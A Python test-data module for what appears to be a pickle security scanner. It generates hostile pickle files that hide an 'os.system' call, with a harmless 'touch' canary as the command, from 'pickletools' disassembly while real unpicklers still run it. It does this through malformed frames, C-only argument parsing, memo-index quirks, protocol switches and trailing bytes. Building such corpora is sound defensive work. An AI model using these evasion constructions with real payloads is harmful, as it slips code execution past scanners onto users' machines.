"""Hostile pickles that make ``pickletools`` and the real unpicklers disagree, one per class.

Each hides a payload (``os.system('touch CANARY')``) where a disassembler reading the bytes in
order does not see it, or stops before it, while a loader runs it: frames that disagree with
their contents, arguments only the C unpickler reads (NUL-terminated and base-0 numbers, UTF-8
``STRING``s), memo indices, protocol switches and renames, bytes after STOP. ``loader`` names the
way of loading that runs the payload (see ``corpus.LOAD_SNIPPET``). Test data, never shipped.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

FRAME = b"\x95"


def s(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data


def frame(body: bytes) -> bytes:
    return FRAME + struct.pack("<Q", len(body)) + body


def payload(cmd: str) -> bytes:
    """``os.system(cmd)``, result popped: leaves the stack as it found it."""
    return s("os") + s("system") + b"\x93" + s(cmd) + b"\x85R0"


def straddle_bytes(hidden: bytes) -> bytes:
    """The frame ends inside BINBYTES' length: pickletools reads a long bytes object that
    swallows ``hidden``; the C stream reader drops the two bytes, reads a length of 0, runs it."""
    length = struct.pack("<I", 2 + len(hidden))
    assert length[2:] == b"\0\0"
    return b"\x80\x04" + frame(b"N0B" + length[:2]) + b"\0\0\0\0" + hidden + b"N."


def straddle_global(cmd: str) -> bytes:
    """The frame ends inside a GLOBAL line: pickletools imports ``xxos.system``, the C stream
    reader drops ``xx`` and imports ``os.system``."""
    return (b"\x80\x04" + frame(b"N0cxx") + b"os\nsystem\n" + s(cmd) + b"\x85R0N.")


def nested_frame(hidden: bytes) -> bytes:
    """A FRAME inside a frame, longer than what is left of it: the C reader drops the rest of the
    outer frame (a BINBYTES header that, read in order, swallows ``hidden``) and runs ``hidden``."""
    tail = b"N0N0N0N."
    inner = FRAME + struct.pack("<Q", len(hidden) + len(tail))
    return b"\x80\x04" + frame(inner + b"B" + struct.pack("<I", len(hidden))) + hidden + tail


def frame_past_stop(hidden: bytes) -> bytes:
    """The first pickle's frame goes on after its STOP. Read in order, the second pickle is a
    bytes object holding ``hidden``; ``pickle.load`` in a loop starts the second load where the
    frame ends, at ``hidden``."""
    second = b"\x80\x04" + hidden + b"N."
    assert len(second) < 256
    return b"\x80\x04" + frame(b"N." + b"\x80\x04C" + bytes([len(second)])) + second + b"."


def truncated_frame(hidden: bytes) -> bytes:
    """A FRAME longer than the file: the C unpickler stops at it, the Python one reads on."""
    return b"\x80\x04" + FRAME + struct.pack("<Q", 4096) + hidden + b"N."


def build(root: Path, canary: Path, add: Callable[..., Any]) -> None:
    """Write every case through ``add(name, data, expected, loader, live)`` (corpus.build's)."""
    cmd = f"touch {canary}"
    mal = payload(cmd)
    add("frame_straddle_bytes.pkl", straddle_bytes(mal), "malicious", "stream")
    add("frame_straddle_global.pkl", straddle_global(cmd), "malicious", "stream")
    add("frame_nested.pkl", nested_frame(mal), "malicious", "stream")
    add("frame_past_stop.pkl", frame_past_stop(mal), "malicious", "stream_all")
    add("frame_truncated.pkl", truncated_frame(mal), "malicious", "python_unpickler")
    add("int_nul_terminated.pkl", b"\x80\x02I1\x00junk\n0" + mal + b"N.", "malicious")
    add("int_base0_hex.pkl", b"\x80\x02I0x1f\n0" + mal + b"N.", "malicious")
    add("float_nul_terminated.pkl", b"\x80\x02F1.5\x00x\n0" + mal + b"N.", "malicious")
    add("memo_nul_terminated.pkl", b"\x80\x02" + s("os") + b"p0\x00x\n0g0\x00y\n" + s("system")
        + b"\x93" + s(cmd) + b"\x85R.", "malicious")
    add("string_utf8.pkl", b"\x80\x02S'\xc3\xa9'\n0" + mal + b"N.", "malicious", "latin1")
    # MEMOIZE stores at len(memo), not max(index) + 1: GET 1 is "os" here.
    add("memo_memoize_sparse.pkl", b"\x80\x04" + s("x") + b"q\x03" + s("os") + b"\x94"
        + s("collections") + b"q\x04" + b"h\x01" + s("system") + b"\x93" + s(cmd) + b"\x85R.",
        "malicious")
    add("protocol_switch_rename.pkl", b"\x80\x04N0\x80\x02c__builtin__\nreduce\nN.", "malicious",
        live=False)
    add("protocol_6_after_payload.pkl", b"\x80\x04" + mal + b"\x80\x06N.", "malicious")
    add("negative_memo_index.pkl", b"Np-1\n.", "suspicious", live=False)
    # protocol 4 opcodes with no PROTO header: every unpickler accepts them; no magic to sniff
    add("binary_no_proto.txt", mal + b"N.", "malicious")
    add("proto0_dill_ext.dill", b"cos\nsystem\n(V" + cmd.encode() + b"\ntR.", "malicious")
    add("proto1_no_ext", b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(cmd)) + cmd.encode()
        + b"tR.", "malicious")
